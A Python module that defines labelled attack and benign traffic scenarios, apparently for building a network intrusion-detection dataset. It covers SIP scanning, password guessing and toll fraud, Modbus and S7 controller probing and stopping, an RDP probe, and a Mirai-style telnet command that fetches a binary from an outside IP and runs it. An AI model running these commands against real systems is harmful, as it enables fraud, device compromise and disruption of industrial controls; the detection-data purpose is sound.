"""Services that are misused, and used: more of `datasets.recipe.untrained_traffic`."""

from __future__ import annotations

from datasets.recipe.scenario_traffic import ATTACKER, NORMAL, SERVER, Scenario


def _misuse(name: str, label: str, helper: str, *commands: str) -> Scenario:
    """``commands`` run at once against the server, on which ``helper`` answers."""
    attacker, namespace = ("", "client") if label == NORMAL else (ATTACKER, "attacker")
    helpers = (("server", f"{helper} serve {SERVER}"),)
    return Scenario(
        name, label, attacker, SERVER, namespace, " && ".join(commands), helpers=helpers
    )


MISUSE: tuple[Scenario, ...] = (
    _misuse("sip-scan", "SipScan", "SIP", f"svmap {SERVER}"),
    _misuse(
        "sip-guess", "SipBruteForce", "SIP", f"svcrack -u 100 -r 1-40 -z 4 --maximumtime 4 {SERVER}"
    ),
    _misuse(
        "sip-guess-tcp",
        "SipBruteForce",
        "SIP",
        f"SIP register {SERVER} 100 x --times 40 --guess --tcp",
    ),
    _misuse(
        "toll-fraud",
        "TollFraud",
        "SIP",
        f"SIP call {SERVER} 00972592277524 900972592277524 011972592277524 +972592277524",
    ),
    # Telephones that register, one with a wrong password, and dial.
    _misuse(
        "benign-telephones",
        NORMAL,
        "SIP",
        f"SIP register {SERVER} alice correct+horse --times 40",
        f"SIP register {SERVER} alice correct+horse --times 20 --tcp",
        f"SIP register {SERVER} 100 wrong --times 10",
        f"SIP call {SERVER} 0049301234567 0049301234568 911 200",
    ),
    _misuse(
        "modbus-misuse",
        "ControlSystemAbuse",
        "CONTROLLERS",
        f"nmap -n -Pn -sT -p 502 --script modbus-discover {SERVER}",
        f"mbpoll -1 -m tcp -a 1 -t 4 -r 3 {SERVER} 7",
    ),
    _misuse(
        "s7-misuse",
        "ControlSystemAbuse",
        "CONTROLLERS",
        f"timeout 4 nmap -n -Pn -sT -p 102 --script s7-info {SERVER}",
        f"CONTROLLERS stop {SERVER}",
    ),
    _misuse(
        "telnet-bot",
        "MalwareInstallation",
        "SERVICES",
        f"SERVICES telnet {SERVER} enable system shell sh /bin/busybox+ECCHI "
        "/bin/busybox+cat+/proc/mounts;+/bin/busybox+ECCHI "
        "cd+/tmp;+wget+http://192.0.2.66/bins/x.mips+-O+-+>x;+chmod+777+x;+./x+telnet",
    ),
    _misuse("rdp-probe", "RemoteOverflow", "SERVICES", f"SERVICES desktop {SERVER} MS_T120"),
    # An administrator's sessions.
    _misuse(
        "benign-administration",
        NORMAL,
        "SERVICES",
        f"SERVICES telnet {SERVER} busybox+ls cat+/proc/mounts "
        "wget+http://updates.example.org/os.tar echo+-e+done",
        f"SERVICES desktop {SERVER} rdpdr",
    ),
    # A control room: it polls, then writes.
    _misuse("benign-control-room", NORMAL, "CONTROLLERS", f"CONTROLLERS supervise {SERVER}"),
)
